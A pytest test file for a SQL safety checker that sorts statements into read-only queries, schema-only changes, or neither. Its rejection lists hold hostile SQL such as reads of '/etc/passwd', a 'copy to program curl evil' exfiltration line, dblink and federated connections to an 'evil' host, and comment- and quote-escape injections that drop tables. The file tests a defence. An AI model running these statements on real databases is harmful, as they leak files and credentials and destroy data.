"""SQL that only reads, and everything else."""

import subprocess
import sys
import time

import pytest

from callgate.core.sql import MAX_SQL, only_reads, only_shapes

DIALECTS = pytest.mark.parametrize("dialect", ["sqlite", "postgres", "mysql"])


@pytest.mark.parametrize(
    "text",
    [
        "select 1",
        "SELECT a, count(*) FROM t WHERE b = 'x' GROUP BY a HAVING count(*) > 1 ORDER BY 2 DESC LIMIT 5 OFFSET 2",
        "select * from a join b using (id) left join c on a.x = c.x",
        "with recent as (select * from t) select * from recent union all select * from old",
        "select 1; select 2;",
        "select coalesce(a, lower(b)) || 'x', cast(c as text) from t where d in (select e from f) and g is not null",
        "select case when a > 1 then 'x' else 'y' end, row_number() over (partition by a order by b) from t",
        "values (1, 2)",
        "select * from t where note = 'drop table t'",
    ],
)
@pytest.mark.parametrize("dialect", ["sqlite", "postgres"])
def test_pure_queries(text, dialect):
    assert only_reads(text, dialect)


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ; ",
        "delete from t",
        "insert into t values (1)",
        "update t set a = 1",
        "drop table t",
        "create table t (a int)",
        "alter table t add b int",
        "truncate t",
        "pragma writable_schema = 1",
        "attach 'x' as y",
        "vacuum",
        "begin; select 1; commit",
        "explain analyze delete from t",
        "explain select 1",
        "call do_it()",
        "do 'begin end'",
        "grant all on t to ana",
        "copy t to '/tmp/x'",
        "set role admin",
        "select 1; drop table t",
        "select * into u from t",
        "create table u as select * from t",
        "select * from t for update",
        "with gone as (delete from t returning *) select * from gone",
        "select nextval('s')",
        "select pg_sleep(10)",
        "select pg_read_file('/etc/passwd')",
        "select lo_import('/etc/passwd')",
        "select dblink_exec('x', 'drop table t')",
        "select set_config('role', 'admin', false)",
        "select load_extension('x')",
        "select writefile('x', 'y')",
        "select secret.purge(1)",
        "select s.nextval from lower('s') s",
        "select s.pg_read_file from u join lower('/etc/passwd') s on true",
        "select * from billing.reverse(1)",
        'select 1 from t join "jobs"."repeat"(5, 2) on true',
        "select * from rows from (a.b.lower('a'))",
        "select * from read_csv('x')",
        "select 1 /*! into outfile '/tmp/x' */",
        "select 1 -- \n; drop table t",
        "select 'a\\'; drop table t; select '",
        "select $$x$$",
        "select 1 # x",
        "selec 1",
        "select (",
        "select 'x",
        "\x00select 1",
        "merge into t using s on t.a = s.a when matched then delete",
    ],
)
@DIALECTS
def test_everything_else(text, dialect):
    assert not only_reads(text, dialect)


@pytest.mark.parametrize(
    "text",
    [
        "alter table t add column note varchar(20) not null default 'x'",
        "alter table t add column if not exists made timestamptz default now()",
        "alter table t drop column note cascade",
        "alter table t alter column total type bigint",
        "alter table t alter column total set not null; alter table t rename column note to remark;",
        "alter table t rename to u",
        "alter table t add constraint c foreign key (a) references u (id) on delete cascade",
        "alter table t drop constraint c",
        "create table if not exists t (id serial primary key, a int references u(id), check (length(b) > 0), unique (a))",
        "create table t (id uuid primary key default gen_random_uuid(), n int generated always as identity)",
        "create table u as select id from t",
        "create unique index concurrently i on t using btree (lower(note), total desc) where total > 0",
        "create or replace view v as select id from t",
        "drop table if exists t, u cascade",
        "drop index i",
        "drop view v",
    ],
)
def test_shapes_of_tables(text):
    assert only_shapes(text, "postgres")
    assert not only_reads(text, "postgres")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "select 1",
        "insert into t values (1)",
        "update t set a = 1",
        "delete from t",
        "truncate t",
        "with gone as (delete from t returning *) select * from gone",
        "create table u as select * from dblink('host=evil', 'select 1') as x(a int)",
        "create table u as with gone as (delete from t returning *) select * from gone",
        "alter table t add column a text default pg_read_file('/etc/passwd')",
        "alter table t alter column a type text using leak(a)",
        "create index i on t (leak(a))",
        "create view v as select leak(a) from t",
        "alter table t owner to evil",
        "alter table t enable row level security",
        "alter table t disable trigger all",
        "alter table t set schema s",
        "alter table t attach partition p default",
        "alter system set x = 1",
        "alter role r superuser",
        "alter database d set x = 1",
        "create extension dblink",
        "create function f() returns int language sql as 'select 1'",
        "create or replace procedure p() language sql as 'delete from t'",
        "create trigger g after insert on t execute function f()",
        "create rule r as on insert to t do nothing",
        "create policy p on t",
        "create role r",
        "create schema s",
        "create sequence s",
        "create type m as enum ('a')",
        "create server s foreign data wrapper postgres_fdw",
        "create foreign table f (id int) server s",
        "create subscription s connection 'host=x' publication p",
        "create temp table t (id int)",
        "create materialized view v as select id from t",
        "create table t (id int) with (fillfactor = 70)",
        "create table t (id int) inherits (u)",
        "create table p partition of t for values from (1) to (2)",
        "create virtual table t using fts5(a)",
        "create table t (a int) engine = federated connection = 'mysql://evil/x'",
        "drop schema s cascade",
        "drop function f",
        "drop role r",
        "drop database d",
        "drop extension e",
        "grant all on t to public",
        "copy t to program 'curl evil'",
        "comment on table t is 'x'",
        "do 'begin end'",
        "begin; alter table t add column a int; commit",
        "alter table t add column a int; create extension dblink",
        "alter table t add column a int -- x",
        "alter table t add column a text default $$x$$",
    ],
)
@DIALECTS
def test_what_is_more_than_the_shape_of_tables(text, dialect):
    assert not only_shapes(text, dialect)


@pytest.mark.parametrize(
    "text",
    [
        "select * from view(1, 2)",
        "select * from schema('x')",
        "select * from a, partition('x') t",
        "select partition(a) from t",
        "select join('/etc/passwd')",
        "select a from t where exists (select * from view(1))",
    ],
)
@DIALECTS
def test_a_function_that_looks_like_a_table_or_an_alias_is_unknown(text, dialect):
    assert not only_reads(text, dialect)
    assert not only_shapes(f"create table u as {text}", dialect)


def test_names_of_columns_behind_an_alias_are_no_function():
    assert only_reads("with recent (a) as (select b from t) select a from recent", "postgres")
    assert only_reads("select u.a from (values (1), (2)) as u (a)", "postgres")
    assert only_reads("select u.a from t u (a)", "postgres")


@DIALECTS
def test_no_text_breaks_the_parser(dialect):
    for name in ("levenshtein_less_equal", "date_trunc", "to_char", "json_extract_path", "date_add", "cast", "extract"):
        for inside in ("", "a", "a, b", "*", "'x'", "select 1"):
            for text in (f"select {name}({inside})", f"create table t as select {name}({inside})"):
                assert only_reads(text, dialect) in {True, False}
                assert only_shapes(text, dialect) in {True, False}


def test_large_and_deep_texts_are_no_reads_and_take_little_time():
    began = time.process_time()
    assert not only_reads("select " + "1 + " * MAX_SQL + "1", "postgres")
    assert not only_reads("select " + "(" * 60 + "1" + ")" * 60, "postgres")
    assert not only_reads("select " + "a, " * 2000 + "b", "postgres")
    assert not only_reads("select " + "not " * 1900 + "a", "postgres")
    only_reads("select " + ",".join(["(a,b) in ((1))"] * 80), "postgres")
    only_reads("select " + "case when a then " * 39 + "1" + " end" * 39, "postgres")
    assert time.process_time() - began < 5


def test_what_cannot_be_parsed_is_not_logged(caplog):
    assert not only_reads("show planted secret", "sqlite")
    assert caplog.text == ""


def test_the_parser_loads_with_the_first_manifest_that_needs_it():
    look = "import sys; import callgate.app.build, callgate.catalog.loader as loader; "
    look += "[loader.load_manifest(name) for name in loader.known_manifests()]; print('sqlglot' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", look], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "False"


@pytest.mark.parametrize("name", ["current_user", "SESSION_USER", "current_catalog", "user", "localtimestamp"])
def test_functions_without_parentheses_are_no_tables(name):
    """PostgreSQL: ``s.f`` is ``f(s)``, and ``s`` is the function's value."""
    assert not only_reads(f"select s.pg_create_restore_point from {name} s", "postgres")
    assert only_reads(f'select s.a from "{name}" s', "postgres")
    assert only_reads(f"select s.a from {name} s", "sqlite")
